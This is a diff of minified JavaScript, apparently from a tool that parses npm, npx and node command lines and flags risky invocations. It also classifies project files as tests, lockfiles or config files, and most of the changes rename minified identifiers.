+invocation:{...i,subcommand:"run"},problems:[...a,...Eh(n,s.family)]}}case"tool":return kh("exec",e,n,s);case"script-or-\
+tool":case"script-tool-or-file":{const a=t==="script-tool-or-file";if(sS.test(e.text)||a&&_h(e.text))return a?Ga(e,n,s):
+o();const c=kh("script-or-tool",e,n,s);return{...c,problems:[...c.problems,...Eh(n,s.family)]}}default:return o()}}const nS=/^\/|\*/,
+sS=/^-$|^\.{0,2}[\\/]|^~|[\\/].*\.\w+$|\.[cm]?[jt]sx?$/;function _h(t){return/[\\/]/.test(t)&&!/^@[\w.-]+\/[\w.-]+$/.test(
+t)}function Eh(t,{program:e,use:n}){return t.filter(({text:r})=>{const i=/^--([\w-]+)/.exec(r)?.[1];return i!==void 0&&n.
+flags.get(fs(i))?.kind==="outside-code"}).map(r=>Xe("outside-code",e,r))}function Ga(t,e,n){const{family:s,parsing:r}=n,
 {program:i}=s,{text:o,span:a}=t,c={operands:[t],passthrough:e,starts:"file"};if(o==="-"||o===""||o.startsWith("/dev/"))return{
 invocation:c,problems:[be("reads-stdin",a,{program:i,flag:o})]};if(/^(?:npm|jsr|https?|data|git|file|[a-z+]+:\/\/):?/.test(
 o)&&/:/.test(o))return{invocation:c,problems:[Xe("uses-network",i,t)]};const[,u=""]=/^(?:\.\/)?vendor\/(?:bin|[\w-]+\/[\w-]+)\/([\w-]+)$/.
 exec(o)??[],d=s.data.dependency_tools.includes(u)?r.families.known.get(u):void 0;if(d!==void 0){const{launched:B,problems:f}=r.
-start({program:d,words:e},i);return{invocation:{launched:B},problems:f}}return{invocation:c,problems:za(s,o,a)}}function za({
+start({program:d,words:e},i);return{invocation:{launched:B},problems:f}}return{invocation:c,problems:Ha(s,o,a)}}function Ha({
 program:t,data:{extensions:e}},n,s){const[,r]=/\.([^./\\]*)$/.exec(n.replace(/^.*\//s,""))??[];return e===void 0||r===void 0||
-e.split(" ").includes(r)?[]:[be("target-extension",s,{program:t,path:n,extension:r})]}function fS(t,e,n){const{family:s,
+e.split(" ").includes(r)?[]:[be("target-extension",s,{program:t,path:n,extension:r})]}function rS(t,e,n){const{family:s,
 parsing:r}=n,{text:i}=t;if(/:\/\//.test(i))return{invocation:{},problems:[Xe("uses-network",s.program,t)]};if(i==="-"||/\.\w+$/.
-test(i))return Ha(t,e,n);const o=r.families.known.get(i);if(o===void 0||!s.data.started_programs.includes(i))return{invocation:{},
+test(i))return Ga(t,e,n);const o=r.families.known.get(i);if(o===void 0||!s.data.started_programs.includes(i))return{invocation:{},
 problems:[Xe("outside-code",s.program,t)]};const{launched:a,problems:c}=r.start({program:o,words:e},s.program);return{invocation:{
-launched:a},problems:c}}function Dh(t,e,n,{family:s,parsing:r}){const{text:i}=e,o=[Xe("outside-code",s.program,e)];if(t===
-"exec"&&kh(i))return{invocation:{},problems:o};const a=/[;&|<>$`'"(){}\\*?]/.test(i)||Jf(i);if(!Vs(i)&&(t==="exec"||a))return{
+launched:a},problems:c}}function kh(t,e,n,{family:s,parsing:r}){const{text:i}=e,o=[Xe("outside-code",s.program,e)];if(t===
+"exec"&&_h(i))return{invocation:{},problems:o};const a=/[;&|<>$`'"(){}\\*?]/.test(i)||Jf(i);if(!Ws(i)&&(t==="exec"||a))return{
 invocation:{},problems:o};const c={subcommand:t,operands:[e],passthrough:n},l=hs(i)?i:r.families.allowed.get(i);if(l!==void 0){
-const{launched:f,problems:h}=r.start({program:l,words:n},s.program);return{invocation:{...c,launched:f},problems:h}}if(si(
+const{launched:f,problems:h}=r.start({program:l,words:n},s.program);return{invocation:{...c,launched:f},problems:h}}if(ni(
 i)||t==="exec"&&ut(i)!==void 0)return{invocation:c,problems:o};const{problems:u,...d}=r.tool(e,n),B=t==="exec"||ha(i,r.families.
-tools)||pa(i);return{invocation:{...c,...d},problems:B?u:[]}}function hS(t,e,n){const{program:s,use:r}=t,{invocation:i,named:o,
+tools)||pa(i);return{invocation:{...c,...d},problems:B?u:[]}}function iS(t,e,n){const{program:s,use:r}=t,{invocation:i,named:o,
 problems:a}=Bi({program:s,use:r,words:e,family:t,parsing:n}),l=[...o.files.filter(({as:d})=>d!=="place"),...i.files??[]];
 return{invocation:{program:s,family:t,...{flags:[],operands:[],passthrough:[]},...i,files:l},problems:a}}function Bi(t){
 const{program:e,use:n}=t,{behind:s,data:r}=n,i=s?t.words.findIndex(({text:m})=>m==="--"):-1,o=i<0?t.words:t.words.slice(
-0,i),a=ps(n,o),c=a.rest?[...a.flags,a.rest.flag]:a.flags,l=i<0||!s?[]:ps(s,t.words.slice(i+1)).flags,u=[...c.map(m=>li(e,
-n,m)),...l.map(m=>li(e,s??n,m))],d=(n.stops?a.started:a.operands).slice(r.skips??0),{invocation:B,named:f,problems:h}=mS(
+0,i),a=Jn(n,o),c=a.rest?[...a.flags,a.rest.flag]:a.flags,l=i<0||!s?[]:Jn(s,t.words.slice(i+1)).flags,u=[...c.map(m=>li(e,
+n,m)),...l.map(m=>li(e,s??n,m))],d=(n.stops?a.started:a.operands).slice(r.skips??0),{invocation:B,named:f,problems:h}=aS(
 t,{flags:[...c,...l],operands:d,...a.rest&&{rest:{module:a.rest.flag.flag?.kind==="module",words:a.rest.words}}});return{
-invocation:{...B,...r.any_package&&{anyPackage:!0},flags:[...c.map(pS),...B.flags??[]]},named:{files:[...u.flatMap(({files:m=[]})=>m),
+invocation:{...B,...r.any_package&&{anyPackage:!0},flags:[...c.map(oS),...B.flags??[]]},named:{files:[...u.flatMap(({files:m=[]})=>m),
 ...f?.files??[]],roots:u.flatMap(({root:m=[]})=>m),nodeFlags:u.flatMap(({nodeFlags:m=[]})=>m)},problems:[...u.flatMap(m=>m.
-problems),...h]}}function pS({word:t,written:e,value:n}){return{name:e,written:e,span:t.span,...n!==void 0&&{value:n}}}function mS(t,e){
-const{program:n,use:s,path:r,family:i,parsing:o}=t,{flags:a,operands:c,rest:l}=e,[u,...d]=c,B=MA(n,s,c);if(B.length>0&&s.
+problems),...h]}}function oS({word:t,written:e,value:n}){return{name:e,written:e,span:t.span,...n!==void 0&&{value:n}}}function aS(t,e){
+const{program:n,use:s,path:r,family:i,parsing:o}=t,{flags:a,operands:c,rest:l}=e,[u,...d]=c,B=TA(n,s,c);if(B.length>0&&s.
 stops)return{invocation:{},problems:B};const f=u&&s.subcommands.get(u.text),h=f?.data.starts==="own-script"?"own-script":
 s.data.starts;if(u&&f&&h!=="own-script"){const y=r===void 0?u.text:`${r} ${u.text}`;return Bi({...t,use:f,path:y,words:d})}
 const m={...r!==void 0&&{subcommand:r},...a.some(({flag:y})=>y?.kind==="checks-syntax-only")&&{parsed:!0}},g=(()=>{if(l&&
-i)return l.module?uS(i,l.words,o):{invocation:{passthrough:l.words},problems:yS(n,l.words)};if(h!==void 0&&i===void 0)return KA(
-h,t,e);if(u===void 0)return{invocation:{},problems:gS(t,a)};if(h!==void 0&&i)return lS(h,u,d,{family:i,parsing:o});if(s.
+i)return l.module?eS(i,l.words,o):{invocation:{passthrough:l.words},problems:lS(n,l.words)};if(h!==void 0&&i===void 0)return PA(
+h,t,e);if(u===void 0)return{invocation:{},problems:cS(t,a)};if(h!==void 0&&i)return tS(h,u,d,{family:i,parsing:o});if(s.
 subcommands.size>0){const D=be("unknown-subcommand",u.span,{program:n,subcommand:u.text});return{invocation:{operands:[u],
-passthrough:d},problems:[D]}}const y=c.filter(({span:D})=>B.every(O=>O.span!==D)),b=zA(s,y);return{invocation:{operands:c},
-problems:GA(n,s,c),named:{files:b}}})(),C=[...B,...CS(t,a),...g.problems];return{...g,invocation:{...m,...g.invocation},
-problems:C}}function xh(t){return t.some(({flag:e,off:n})=>e?.kind==="only-prints"&&!n)}function gS({program:t,use:e},n){
-const s=xh(n)?void 0:e.data.alone,r={text:"",span:{start:0,end:t.length}};return s?[Xe(s,t,r)]:[]}function CS({program:t,
-use:e,path:n,words:s},r){if(xh(r))return[];const i=new Set(r.flatMap(({flag:a,off:c})=>a&&!c?a.name:[])),o=s[0]?.span??{
+passthrough:d},problems:[D]}}const y=c.filter(({span:D})=>B.every(O=>O.span!==D)),b=NA(s,y);return{invocation:{operands:c},
+problems:IA(n,s,c),named:{files:b}}})(),C=[...B,...uS(t,a),...g.problems];return{...g,invocation:{...m,...g.invocation},
+problems:C}}function vh(t){return t.some(({flag:e,off:n})=>e?.kind==="only-prints"&&!n)}function cS({program:t,use:e},n){
+const s=vh(n)?void 0:e.data.alone,r={text:"",span:{start:0,end:t.length}};return s?[Xe(s,t,r)]:[]}function uS({program:t,
+use:e,path:n,words:s},r){if(vh(r))return[];const i=new Set(r.flatMap(({flag:a,off:c})=>a&&!c?a.name:[])),o=s[0]?.span??{
 start:0,end:0};return Object.entries(e.data.unless??{}).flatMap(([a,c])=>c.split(" ").some(l=>i.has(l))?[]:[Xe(a,t,{text:n??
-"",span:o})])}function yS(t,e){return e.filter(({text:s})=>/^--?test\./.test(s)).map(s=>Xe("skips-tests",t,s))}const Zn={
+"",span:o})])}function lS(t,e){return e.filter(({text:s})=>/^--?test\./.test(s)).map(s=>Xe("skips-tests",t,s))}const Zn={
 flags:{config:"config,c= config-file= rcfile= resolve-plugins-relative-to=",code:`
       custom-syntax= env= environment= extends= format= formatter= global-setup= global-teardown= hook~=
       import= load= load-plugins= loader= parser= plugin~= preset~= reporter,reporters= require,r= resolver= rulesdir=
@@ -4553,67 +4544,67 @@ uses-network":"publish upload","tool-writes":"apply apply-unsafe fix? in-place o
 napshots write","skips-tests":"allow-no-tests pass-with-no-tests","never-ends":"serve ui watch watch-all"},refused:{"out\
 side-code":"eval","uses-network":"add i install link remove uninstall update upgrade deploy login publish push release u\
 pload","never-ends":"console dev develop preview repl serve server shell start studio watch","tool-writes":"generate mig\
-rate","writes-files":"clean create eject init new"},unknown:!0},{refused:Oh}=Zn,wS=[{programs:["next"],alone:"never-ends",
+rate","writes-files":"clean create eject init new"},unknown:!0},{refused:Dh}=Zn,dS=[{programs:["next"],alone:"never-ends",
 ends_with:"build info lint telemetry typegen"},{programs:["parcel","vitepress"],alone:"never-ends",ends_with:"build"},{programs:[
 "storybook"],alone:"never-ends",ends_with:"build doctor"},{programs:["testem"],alone:"never-ends",ends_with:"ci launcher\
-s"},{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...Oh,"never-ends":`${Oh["never-\
+s"},{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...Dh,"never-ends":`${Dh["never-\
 ends"]} s`}},{programs:["microbundle","ncc","postcss","rolldown","sass","tailwindcss","tsdown"],flags:{...Zn.flags,"neve\
-r-ends":`${Zn.flags["never-ends"]} w`}}],bS=un(Zn),_S=un({...Zn,flags:{...Zn.flags,code:"custom-syntax= env= environment\
+r-ends":`${Zn.flags["never-ends"]} w`}}],BS=un(Zn),fS=un({...Zn,flags:{...Zn.flags,code:"custom-syntax= env= environment\
 = formatter= parser= reporter= resolver= rulesdir= runner= use= cmd= command= eval= init-hook=",module:"import= load= lo\
-ad-plugins= loader= plugin~="}}),ES=new Map(wS.flatMap(t=>{const e=un({...Zn,...t});return t.programs.map(n=>[n,e])}));function kS(t){
-return ES.get(t)??bS}function vS(t,e,n){const{text:s}=t,r=pa(s);if(r!==void 0)return{problems:[Xe(r,s,t)]};const i=ha(s,
-n.families.tools),o=i??kS(s),{invocation:a,named:c,problems:l}=Bi({program:s,use:o,words:e,parsing:n}),{launched:u=[]}=a;
-return{tool:c,...u.length>0&&{launched:u},problems:i?l:[...l,...Ah(t,e,o)]}}function DS(t,e,n,s=Da){const{problems:r}=Bi(
-{program:t.text,use:n,words:e,parsing:s});return[...r,...Ah(t,e,n)]}function Ah({text:t},e,n){const{flags:s,operands:r}=ps(
+ad-plugins= loader= plugin~="}}),hS=new Map(dS.flatMap(t=>{const e=un({...Zn,...t});return t.programs.map(n=>[n,e])}));function pS(t){
+return hS.get(t)??BS}function mS(t,e,n){const{text:s}=t,r=pa(s);if(r!==void 0)return{problems:[Xe(r,s,t)]};const i=ha(s,
+n.families.tools),o=i??pS(s),{invocation:a,named:c,problems:l}=Bi({program:s,use:o,words:e,parsing:n}),{launched:u=[]}=a;
+return{tool:c,...u.length>0&&{launched:u},problems:i?l:[...l,...xh(t,e,o)]}}function gS(t,e,n,s=Da){const{problems:r}=Bi(
+{program:t.text,use:n,words:e,parsing:s});return[...r,...xh(t,e,n)]}function xh({text:t},e,n){const{flags:s,operands:r}=Jn(
 n,e),i=e[e.findIndex(({text:l})=>l==="--")+1],o=[...new Set([r[0],i])].filter(l=>l!==void 0&&Uf(l.text)),a=s.filter(({written:l,
-flag:u,value:d=""})=>/^-[ex]$/.test(l)&&/\s/.test(d)||u?.kind!=="config"&&gO(d)),c=r.filter(({text:l})=>Jf(l));return[...o,
-...a.map(({word:l})=>l),...c].flatMap(l=>l===void 0?[]:[Xe("outside-code",t,l)])}const xS=5,OS={node:Xf,npm:sh,npx:JO};function Ua(t,e,n=Vr){
-return Ja(t,e,n,0)}function Ja(t,e,n,s){const r=(d,B)=>AS(d,B,n,s+1),i={families:n,start:r,tool:(d,B)=>vS(d,B,i)};if(typeof t!=
-"string")return hS(t,e,i);const{invocation:o,problems:a}=OS[t](e,i),[c]=t==="node"&&!ci(o)?o.operands:[];if(c===void 0)return{
-invocation:o,problems:a};const l=IS(c.text).map(d=>{const B=["--",d].map(f=>({...c,text:f}));return r({program:"npx",words:[
+flag:u,value:d=""})=>/^-[ex]$/.test(l)&&/\s/.test(d)||u?.kind!=="config"&&hO(d)),c=r.filter(({text:l})=>Jf(l));return[...o,
+...a.map(({word:l})=>l),...c].flatMap(l=>l===void 0?[]:[Xe("outside-code",t,l)])}const CS=5,yS={node:Yf,npm:uh,npx:mA};function za(t,e,n=qr){
+return Ua(t,e,n,0)}function Ua(t,e,n,s){const r=(d,B)=>wS(d,B,n,s+1),i={families:n,start:r,tool:(d,B)=>mS(d,B,i)};if(typeof t!=
+"string")return iS(t,e,i);const{invocation:o,problems:a}=yS[t](e,i),[c]=t==="node"&&!ai(o)?o.operands:[];if(c===void 0)return{
+invocation:o,problems:a};const l=ES(c.text).map(d=>{const B=["--",d].map(f=>({...c,text:f}));return r({program:"npx",words:[
 ...B,...o.passthrough],starts:"file"},t)}),u=l.flatMap(d=>d.launched);return{invocation:u.length>0?{...o,launched:u}:o,problems:[
-...a,...l.flatMap(d=>d.problems)]}}function fi({launched:t=[]}){return t.flatMap(e=>[e,...fi(e)])}function AS({program:t,
-words:e,...n},s,r,i){const[o={text:"",span:{start:0,end:0}},...a]=e,c=i===xS?"outside-code":t?void 0:SS(o.text);if(c)return{
-launched:[],problems:[Xe(c,s,o)]};const l=t??(hs(o.text)?o.text:void 0),{invocation:u,problems:d}=l?Ja(l,t?e:a,r,i):Ja("\
-npx",e,r,i);return{launched:[{...u,...n}],problems:d}}function SS(t){return t.startsWith("-")?"unknown-flag":ut(t)!==void 0&&
-!hs(t)&&!Xr(t)?"outside-code":void 0}const TS=/^(?:.*\/)?node_modules\/((?:@[^/]+\/)?[^/]+)(?:\/(?:.*\/)?([^/]+))?$/s;function IS(t){
+...a,...l.flatMap(d=>d.problems)]}}function fi({launched:t=[]}){return t.flatMap(e=>[e,...fi(e)])}function wS({program:t,
+words:e,...n},s,r,i){const[o={text:"",span:{start:0,end:0}},...a]=e,c=i===CS?"outside-code":t?void 0:bS(o.text);if(c)return{
+launched:[],problems:[Xe(c,s,o)]};const l=t??(hs(o.text)?o.text:void 0),{invocation:u,problems:d}=l?Ua(l,t?e:a,r,i):Ua("\
+npx",e,r,i);return{launched:[{...u,...n}],problems:d}}function bS(t){return t.startsWith("-")?"unknown-flag":ut(t)!==void 0&&
+!hs(t)&&!Yr(t)?"outside-code":void 0}const _S=/^(?:.*\/)?node_modules\/((?:@[^/]+\/)?[^/]+)(?:\/(?:.*\/)?([^/]+))?$/s;function ES(t){
 const e=te.posix.normalize(t.replaceAll("\\","/")).replace(/\/$/,"");if(/(?:^|\/)\.yarn\/releases\//.test(e))return["yar\
-n"];const[,n,s=""]=TS.exec(e)??[];if(n===void 0)return[];if(n===".bin")return[s];const i=[...new Set([s.replace(/\.[cm]?[jt]s$/,
-""),n])].filter(o=>Xr(o));return i.length>0?i:[n]}const $S=/^(?:a|all|and|are|as|be|by|can|contains?|does|each|ensures?|every|exists?|has|have|is|it|loads|must|no|not|of|passes|returns?|should|that|the|this|to|verify|when|with|without)$/i,
-RS=/^(?:assert|check|compile|confirm|ensure|execute|expect|human|inspect|manual|manually|observe|review|run|validate|verify|visual)$/i,
-NS=/\.(?:md|txt|json|ya?ml|[cm]?[jt]s|py|html|css)$/i,FS=/^[A-Za-z][a-z']*[:,]?$/,LS=/^(?:[A-Za-z_][\w .-]*?[ \t]*(?:[<>=!]=?|[≥≤≠:])[ \t]*)?[+-]?\d+(?:\.\d+)?[ \t]*(?:%|\/[ \t]*\d+)?$/,
-PS=/^(?:[a-z][a-z0-9]*(?:_[a-z0-9]+)+|[A-Z][A-Z_]+)$/,jS=/[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Arabic}\p{Script=Devanagari}]/u;
-function MS(t){const e=t.trim(),[n="",...s]=e.split(/\s+/,100);if(n===n.toLowerCase()&&ut(n)!==void 0)return!1;if(LS.test(
-e)||PS.test(e)||jS.test(n))return!0;if(/[;&|<>$`]/.test(e))return!1;const r=FS.test(n);if(s.some(o=>/^--?[A-Za-z]/.test(
-o)))return!1;if((r||NS.test(n))&&s.some(o=>$S.test(GS(o))))return!0;if(/^[A-Z][a-z]+[:,.!]?$/.test(n))return s.length>0||
-/[.!:]$/.test(n);const i=/^[A-Za-z][A-Za-z']*[.,:!?]?$/.test(s[0]??"");return r&&i&&(RS.test(n)||/[a-z]{2}[.!?]$/.test(e))}
-function GS(t){return t.replace(/[.,;:!?]$/,"")}const HS=/[\s"'`;&|()<>=]+/;function zz(t,e=""){const n=e===""?"":`${e}/`;
-return t.split(HS).map(s=>normalise(n+s)??s)}function Uz({targets:t}){return t.flatMap(({kind:e,path:n,parsed:s})=>e==="\
-file"&&n&&!s?[n]:[])}var hi=Te(6);function mt(t){return t==="file"||t==="executable"}function Jz(t){if(t.isSymbolicLink())
-return"symlink";if(t.isDirectory())return"directory";if(t.isFile())return(t.mode&73)===0?"file":"executable"}function Zz(t){
-return process.platform==="win32"&&t==="executable"?"file":t}function zS(t){return typeof t=="object"&&t!==null&&!Array.
-isArray(t)}function yt(t){return zS(t)?t:{}}function dn(t,e){const n=Object.hasOwn(t,e)?t[e]:void 0;return typeof n=="st\
-ring"?n:""}const US=new Set(`js mjs cjs jsx ts mts cts tsx vue svelte astro py pyi rs go java kt kts scala groovy c h cc\
+n"];const[,n,s=""]=_S.exec(e)??[];if(n===void 0)return[];if(n===".bin")return[s];const i=[...new Set([s.replace(/\.[cm]?[jt]s$/,
+""),n])].filter(o=>Yr(o));return i.length>0?i:[n]}const kS=/^(?:a|all|and|are|as|be|by|can|contains?|does|each|ensures?|every|exists?|has|have|is|it|loads|must|no|not|of|passes|returns?|should|that|the|this|to|verify|when|with|without)$/i,
+vS=/^(?:assert|check|compile|confirm|ensure|execute|expect|human|inspect|manual|manually|observe|review|run|validate|verify|visual)$/i,
+DS=/\.(?:md|txt|json|ya?ml|[cm]?[jt]s|py|html|css)$/i,xS=/^[A-Za-z][a-z']*[:,]?$/,OS=/^(?:[A-Za-z_][\w .-]*?[ \t]*(?:[<>=!]=?|[≥≤≠:])[ \t]*)?[+-]?\d+(?:\.\d+)?[ \t]*(?:%|\/[ \t]*\d+)?$/,
+AS=/^(?:[a-z][a-z0-9]*(?:_[a-z0-9]+)+|[A-Z][A-Z_]+)$/,SS=/[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}\p{Script=Arabic}\p{Script=Devanagari}]/u;
+function TS(t){const e=t.trim(),[n="",...s]=e.split(/\s+/,100);if(n===n.toLowerCase()&&ut(n)!==void 0)return!1;if(OS.test(
+e)||AS.test(e)||SS.test(n))return!0;if(/[;&|<>$`]/.test(e))return!1;const r=xS.test(n);if(s.some(o=>/^--?[A-Za-z]/.test(
+o)))return!1;if((r||DS.test(n))&&s.some(o=>kS.test(IS(o))))return!0;if(/^[A-Z][a-z]+[:,.!]?$/.test(n))return s.length>0||
+/[.!:]$/.test(n);const i=/^[A-Za-z][A-Za-z']*[.,:!?]?$/.test(s[0]??"");return r&&i&&(vS.test(n)||/[a-z]{2}[.!?]$/.test(e))}
+function IS(t){return t.replace(/[.,;:!?]$/,"")}const $S=/[\s"'`;&|()<>=]+/;function Nz(t,e=""){const n=e===""?"":`${e}/`;
+return t.split($S).map(s=>normalise(n+s)??s)}function Rz({targets:t}){return t.flatMap(({kind:e,path:n,parsed:s})=>e==="\
+file"&&n&&!s?[n]:[])}var hi=Te(6);function mt(t){return t==="file"||t==="executable"}function Fz(t){if(t.isSymbolicLink())
+return"symlink";if(t.isDirectory())return"directory";if(t.isFile())return(t.mode&73)===0?"file":"executable"}function Lz(t){
+return process.platform==="win32"&&t==="executable"?"file":t}function NS(t){return typeof t=="object"&&t!==null&&!Array.
+isArray(t)}function yt(t){return NS(t)?t:{}}function dn(t,e){const n=Object.hasOwn(t,e)?t[e]:void 0;return typeof n=="st\
+ring"?n:""}const RS=new Set(`js mjs cjs jsx ts mts cts tsx vue svelte astro py pyi rs go java kt kts scala groovy c h cc\
  cpp cxx hh
   hpp cs fs vb rb php swift m mm dart ex exs erl hs elm clj cljs lua pl pm r jl nim zig sh bash zsh ps1 sql
-  css scss sass less html graphql proto`.split(/\s+/)),JS=new Set("applescript awk bat cljc cmd csh fish fsx gradle htm \
-ksh mk ml mli psm1 pyw sed tcl vbs".split(" ")),ZS=new Set("ini json json5 jsonl toml yaml yml".split(" ")),KS=/^(?:(?:GNU)?Makefile|Dockerfile|Jenkinsfile|Rakefile|Gemfile|justfile)$/i;
-function WS(t){return US.has(Ka(t))}function Za(t){return WS(t)||JS.has(Ka(t))}function Kz(t){return Za(t)||ZS.has(Ka(t))||
-KS.test(posix.basename(t))}function Ka(t){return te.posix.extname(t).slice(1).toLowerCase()}const qS={tests:"tests?|__te\
+  css scss sass less html graphql proto`.split(/\s+/)),FS=new Set("applescript awk bat cljc cmd csh fish fsx gradle htm \
+ksh mk ml mli psm1 pyw sed tcl vbs".split(" ")),LS=new Set("ini json json5 jsonl toml yaml yml".split(" ")),PS=/^(?:(?:GNU)?Makefile|Dockerfile|Jenkinsfile|Rakefile|Gemfile|justfile)$/i;
+function jS(t){return RS.has(Za(t))}function Ja(t){return jS(t)||FS.has(Za(t))}function Pz(t){return Ja(t)||LS.has(Za(t))||
+PS.test(posix.basename(t))}function Za(t){return te.posix.extname(t).slice(1).toLowerCase()}const MS={tests:"tests?|__te\
 sts__|specs?|e2e|cypress|playwright",data:"__mocks__|__snapshots__|__fixtures__|fixtures?|testdata|test-utils",beside:"f\
-eatures|bench(?:marks?)?"},VS=/(?:^|\/)(?:tests?|spec|[^/]*[._-](?:tests?|spec|tst|test-d|cy)|test[_-][^/]*|[^/]*(?:Tests?|IT|Spec))\.[^./]+$/,
-YS=/(?:^|\/)(?:conftest|(?:[^/]*[._-])?(?:bench|stories))\.[^./]+$/,[XS,QS,eT]=Object.values(qS).map(t=>new RegExp(`(?:^\
-|/)(?:${t})/`,"i"));function tT(t){return XS.test(t)||VS.test(t)}function nT(t){return QS.test(t)||t.endsWith(".snap")}function Wz(t){
-return tT(t)||nT(t)||eT.test(t)||YS.test(t)}const Wa=["npm-shrinkwrap.json","package-lock.json"],pi=[...Wa,"pnpm-lock.ya\
-ml","yarn.lock","bun.lock","bun.lockb"],sT=/^(?:(?:deno|Cargo|Gemfile|composer|poetry|uv|pdm|Pipfile)\.lock|go\.sum|gradle\.lockfile|requirements.*\.txt)$/;
-function qz(t){return pi.includes(t)||sT.test(t)}const rT=/^(?:package\.(?:json5?|yaml)|\.npmrc|\.yarnrc(?:\.yml)?|\.pnp\.[\w.]+|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|bunfig\.toml|binding\.gyp)$/;
-function Vz(t){return pi.includes(t)||rT.test(t)}const Ut="{js,cjs,mjs,ts,cts,mts}",Sh="{json,jsonc,json5,yaml,yml,toml}",
-Et=`{${Ut.slice(1,-1)},${Sh.slice(1,-1)}}`,iT={vitest:`vitest.config.${Ut} vitest.workspace.${Et} vite.config.${Ut}`,jest:`\
+eatures|bench(?:marks?)?"},GS=/(?:^|\/)(?:tests?|spec|[^/]*[._-](?:tests?|spec|tst|test-d|cy)|test[_-][^/]*|[^/]*(?:Tests?|IT|Spec))\.[^./]+$/,
+HS=/(?:^|\/)(?:conftest|(?:[^/]*[._-])?(?:bench|stories))\.[^./]+$/,[zS,US,JS]=Object.values(MS).map(t=>new RegExp(`(?:^\
+|/)(?:${t})/`,"i"));function ZS(t){return zS.test(t)||GS.test(t)}function KS(t){return US.test(t)||t.endsWith(".snap")}function jz(t){
+return ZS(t)||KS(t)||JS.test(t)||HS.test(t)}const Ka=["npm-shrinkwrap.json","package-lock.json"],pi=[...Ka,"pnpm-lock.ya\
+ml","yarn.lock","bun.lock","bun.lockb"],WS=/^(?:(?:deno|Cargo|Gemfile|composer|poetry|uv|pdm|Pipfile)\.lock|go\.sum|gradle\.lockfile|requirements.*\.txt)$/;
+function Mz(t){return pi.includes(t)||WS.test(t)}const qS=/^(?:package\.(?:json5?|yaml)|\.npmrc|\.yarnrc(?:\.yml)?|\.pnp\.[\w.]+|pnpm-workspace\.yaml|\.pnpmfile\.[cm]?js|bunfig\.toml|binding\.gyp)$/;
+function Gz(t){return pi.includes(t)||qS.test(t)}const Ut="{js,cjs,mjs,ts,cts,mts}",Oh="{json,jsonc,json5,yaml,yml,toml}",
+Et=`{${Ut.slice(1,-1)},${Oh.slice(1,-1)}}`,VS={vitest:`vitest.config.${Ut} vitest.workspace.${Et} vite.config.${Ut}`,jest:`\
 jest.config.${Et} jest.setup.${Ut}`,mocha:`.mocharc .mocharc.${Et}`,ava:"ava.config.{js,cjs,mjs}",jasmine:"jasmine.{json\
 ,js,mjs,cjs}",tap:".taprc",playwright:`playwright.config.${Ut}`,cypress:`cypress.config.${Ut}`,eslint:`eslint.config.${Ut}\
  .eslintrc .eslintrc.${Et} .eslintignore eslint-suppressions.json`,prettier:`.prettierrc .prettierrc.${Et} prettier.conf\
 ig.${Ut} .prettierignore .editorconfig`,stylelint:`.stylelintrc .stylelintrc.${Et} stylelint.config.${Ut} .stylelintigno\
-re`,biome:"biome.json biome.jsonc .biome.json .biome.jsonc",knip:`knip.${Et} .knip.${Sh} knip.config.${Ut}`,markdownlint:`\
+re`,biome:"biome.json biome.jsonc .biome.json .biome.jsonc",knip:`knip.${Et} .knip.${Oh} knip.config.${Ut}`,markdownlint:`\
 .markdownlint.${Et} .markdownlint-cli2.${Et} .markdownlintignore .markdownlintrc`,cspell:`cspell.${Et} .cspell.${Et} csp\
 ell.config.${Et}`,typescript:"tsconfig.json tsconfig.*.json jsconfig.json *.tsbuildinfo",nyc:`.nycrc .nycrc.${Et} nyc.co\
 nfig.${Ut}`,c8:".c8rc .c8rc.json",babel:`babel.config.${Et} .babelrc .babelrc.${Et}`,swc:".swcrc",pytest:"pytest.toml .p\
@@ -4622,47 +4613,47 @@ ytest.toml pytest.ini .pytest.ini conftest.py pyproject.toml setup.cfg",tox:"tox
 ain.toml clippy.toml .clippy.toml rustfmt.toml",go:"go.mod go.work .golangci.{yml,yaml,toml,json}",make:"Makefile makefi\
 le GNUmakefile *.mk",maven:"pom.xml",gradle:"{build,settings}.gradle {build,settings}.gradle.kts gradle.properties",dotnet:"\
 Directory.Build.{props,targets} *.runsettings",phpunit:"phpunit.xml phpunit.xml.dist phpunit.dist.xml",rspec:".rspec .ru\
-bocop.yml",turbo:"turbo.json",nx:"nx.json project.json",lerna:"lerna.json",npm:".npmrc"};let Th;function oT(t){if(Th??=Object.
-entries(iT).map(([n,s])=>[n,hi(s.split(" "),{dot:!0})]),/^\.cargo\/config(?:\.toml)?$/.test(t))return"cargo";const e=t.slice(
-t.lastIndexOf("/")+1);return Th.find(([,n])=>n(e))?.[0]}var Ih=Te(756);const aT="version https://git-lfs.github.com/spec\
-/";function cT(t){if(t.startsWith(aT))return"this is a Git LFS pointer; commit the file itself (git lfs untrack)"}const Re={
+bocop.yml",turbo:"turbo.json",nx:"nx.json project.json",lerna:"lerna.json",npm:".npmrc"};let Ah;function YS(t){if(Ah??=Object.
+entries(VS).map(([n,s])=>[n,hi(s.split(" "),{dot:!0})]),/^\.cargo\/config(?:\.toml)?$/.test(t))return"cargo";const e=t.slice(
+t.lastIndexOf("/")+1);return Ah.find(([,n])=>n(e))?.[0]}var Sh=Te(756);const XS="version https://git-lfs.github.com/spec\
+/";function QS(t){if(t.startsWith(XS))return"this is a Git LFS pointer; commit the file itself (git lfs untrack)"}const Ne={
 targets:[],problems:[]};function Ie(t){return{targets:t.flatMap(e=>e.targets),problems:t.flatMap(e=>e.problems)}}function ae(t,e,n,s){
 return{targets:[],problems:[be(t,e,n,s)]}}function rt({directory:t},e){return t===""?e:`${t}/${e}`}function mi({via:t},e){
-return t===void 0?e:{...e,via:t}}const $h=64,Rh=2e3;class uT{#e=new Set;#t=new Set;resolve;#s;constructor(e,n){this.resolve=
+return t===void 0?e:{...e,via:t}}const Th=64,Ih=2e3;class eT{#e=new Set;#t=new Set;resolve;#s;constructor(e,n){this.resolve=
 e,this.#s=n}async follow(e,n,s,r){if(this.#e.has(e))return r({why:"cycle"});const i=await this.#s?.tickScript();if(i!==void 0)
-return r({why:"time",limit:i});const o=`${e}\0${n}`;if(this.#t.has(o))return Re;if(this.#e.size>=$h)return r({why:"depth",
